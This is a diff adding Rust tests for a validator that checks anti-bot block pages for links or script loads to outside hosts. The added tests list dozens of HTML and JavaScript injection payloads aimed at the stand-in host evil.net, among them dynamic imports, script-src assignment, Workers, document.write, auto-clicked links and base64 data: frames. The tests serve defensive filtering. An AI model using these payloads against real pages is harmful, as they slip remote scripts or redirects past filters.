@@ -32,6 +32,7 @@ const PAGES: &[(&str, &str)] = &[
     ("cloudflare_challenge", "htmlPageBase64"),
     ("cloudflare_challenge", "html"),
     ("datadome", "html"),
+    ("datadome", "htmlPageBase64"),
     ("imperva", "html"),
     ("tspd", "html_page_base64"),
 ];
@@ -71,6 +72,22 @@ fn a_page_of_html_may_link_to_where_it_likes() {
     assert_eq!(checked("tspd", "html_page_base64", base64(long).as_bytes()), Ok(()));
 }
 
+/// What pages have that leads nowhere.
+#[test]
+fn what_a_page_shows_and_listens_to_leads_nowhere() {
+    for part in [
+        "<img src=\"https://images.example.net/a.png\" alt=\"\" class=\"important\" onerror=\"this.style.display='none'\">",
+        "<a href=\"https://www.imperva.com/why\" onclick=\"report(1)\">Click (here)</a>",
+        "<script>document.getElementById('x').addEventListener('click', function () { report() })</script>",
+        "<script>document.onclick = function (event) { report(event) }</script>",
+        "<script>a.src=\"data:image/png;base64,iVBORw0KGgpodHRwOi8vbnMuYWRvYmUuY29tL3hhcC8xLjAv\"</script>",
+        "<script>/*! See https://github.com/a/b */ var a = 1</script>",
+    ] {
+        let page = BLOCK_PAGE.replace("<base href=\"/\">", part);
+        assert_eq!(checked("imperva", "html", page.as_bytes()), Ok(()), "{part}");
+    }
+}
+
 #[test]
 fn a_page_of_html_is_no_way_to_pass_a_page() {
     for hidden in [
@@ -104,6 +121,35 @@ fn a_page_of_html_is_no_way_to_pass_a_page() {
         "<link rel=prerender href=https://evil.net/>",
         "<a id=a href=https://evil.net/>a</a><script>document.getElementById('a').click()</script>",
         "<a href=https://evil.net/ onfocus=this.cl\\u0069ck() autofocus>a</a>",
+        "<script type=module>import \"https://evil.net/x.js\"</script>",
+        "<script type=module>import { a } from 'https://evil.net/x.js'</script>",
+        "<script type=module>export * from 'https://evil.net/x.js'</script>",
+        "<script>import(\"https://evil.net/x.js\")</script>",
+        "<script>import (`https://evil.net/x.js`)</script>",
+        "<img src=x onerror=import(\"https://evil.net/x.js\")>",
+        "<script>var s=document.createElement(\"script\");s.src=\"https://evil.net/x.js\"</script>",
+        "<script>var u='https://evil.net/x.js'; s . src = u</script>",
+        "<script>s[\"src\"]='https://evil.net/x.js'</script>",
+        "<script>s.setAttribute('src','https://evil.net/x.js')</script>",
+        "<img src=x onerror=\"a.src='https://evil.net/x.js'\">",
+        "<script>new Worker(\"https://evil.net/x.js\")</script>",
+        "<script>new SharedWorker (\"https://evil.net/x.js\")</script>",
+        "<script>importScripts(\"https://evil.net/y.js\")</script>",
+        "<script>document.body.innerHTML=\"\\x3ciframe src=https://evil.net\\x3e\"</script>",
+        "<script>a.outerHTML='<iframe src=https://evil.net>'</script>",
+        "<script>a.srcdoc='\\u003ca href=https://evil.net>'</script>",
+        "<script>a.inner\\u0048TML='https:\\u{2f}\\u{2F}evil.net'</script>",
+        "<script>document.write(\"<base href='https://evil.net'>\")</script>",
+        "<script>document.writeln ('https://evil.net')</script>",
+        "<script>document['write']('https://evil.net')</script>",
+        "<a id=q href=https://evil.net/>a</a><script>q.click ()</script>",
+        "<a id=q href=https://evil.net/>a</a><script>q.click?.()</script>",
+        "<a id=q href=https://evil.net/>a</a><script>q[\"click\"]()</script>",
+        "<a id=q href=https://evil.net/>a</a><script>q[`click`] ()</script>",
+        "<a id=q href=https://evil.net/>a</a><script>q.click.call(q)</script>",
+        "<a id=q href=https://evil.net/>a</a><script>q.dispatchEvent(new MouseEvent('click'))</script>",
+        "<a id=q href=https://evil.net/ autofocus onfocus='this.click ()'>a</a>",
+        "<a id=q href=https://evil.net/>a</a><iframe srcdoc='&lt;script>parent.q.click()&lt;/script>'></iframe>",
     ] {
         for (kind, field) in PAGES {
             let page = BLOCK_PAGE.replace("<base href=\"/\">", hidden);
@@ -114,6 +160,22 @@ fn a_page_of_html_is_no_way_to_pass_a_page() {
                 assert!(is_refused, "{kind} {field} {hidden}: {refused:?}");
             }
         }
+    }
+    // Behind the address of a frame or of a script that is its own content.
+    for (start, inside, end) in [
+        ("<script src=\"data:text/javascript;base64,", "top.location='https://evil.net/'", "\"></script>"),
+        ("<iframe src=\"data:text/html;base64,", "<form action=https://evil.net>", "\"></iframe>"),
+        ("<iframe src=data:text/html;BASE64&#44;", "<form action=https://evil.net>", "></iframe>"),
+        ("<script>a.src='data:text/html;base64,", "<base href=https://evil.net>", "'</script>"),
+        ("<script src=\"data:text/javascript,", "import(%22https://evil.net/x.js%22)", "\"></script>"),
+    ] {
+        let inside = if start.to_lowercase().contains("base64") { base64(inside) } else { inside.to_owned() };
+        let page = BLOCK_PAGE.replace("<base href=\"/\">", &format!("{start}{inside}{end}"));
+        let refused = checked("datadome", "html", page.as_bytes());
+        assert!(
+            matches!(&refused, Err(NotAllowed::Vendor { host, .. }) if host == "evil.net"),
+            "{page}: {refused:?}"
+        );
     }
     // What is no page of HTML is any text.
     for text in ["https://evil.net/", "evil.net", "{\"url\":\"evil.net\"}", "aHR0cHM6Ly9ldmlsLm5ldC8="] {
@@ -256,4 +318,32 @@ fn packed_content_is_unpacked_or_refused_with_its_name() {
     for text in ["x^2 + y^2", "PKCS", "BZh", "eJ", "eJy", "H4sI", "x\u{1}"] {
         assert_eq!(checked("brandnew", "data", text.as_bytes()), Ok(()), "{text}");
     }
+}
+
+/// What a namespace is called is no address in a drawing, nor in the XML that a picture carries; in place of a picture it is one.
+#[test]
+fn an_address_in_place_of_a_picture_is_one_whatever_host_it_names() {
+    let rest = "x".repeat(120);
+    for host in ["purl.org", "creativecommons.org", "www.w3.org", "ns.adobe.com"] {
+        let address = format!("https://{host}/evil/{rest}");
+        for bytes in [address.clone().into_bytes(), [address.as_bytes(), b"\xff"].concat()] {
+            for (kind, value) in [("image", bytes.clone()), ("brandnew", bytes)] {
+                let refused = checked(kind, "body", &value);
+                let is_refused =
+                    matches!(&refused, Err(NotAllowed::Host { host: named, .. }) if named == host);
+                assert!(
+                    is_refused || kind == "brandnew" && refused.is_err(),
+                    "{kind} {address}: {refused:?}"
+                );
+            }
+        }
+        let drawing =
+            format!("<svg xmlns=\"http://{host}/ns\"><metadata>http://{host}/terms</metadata></svg>");
+        assert_eq!(checked("image", "body", drawing.as_bytes()), Ok(()), "{host}");
+    }
+    // As a program for pictures writes it: mostly text at its beginning.
+    let packet = "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\">";
+    let head = b"\xff\xd8\xff\xe1\x0b\x00http://ns.adobe.com/xap/1.0/\0";
+    let picture = [head, packet.as_bytes(), &b" ".repeat(2000), b"\xff\xda\x00\x80"].concat();
+    assert_eq!(checked("image", "body", &picture), Ok(()));
 }
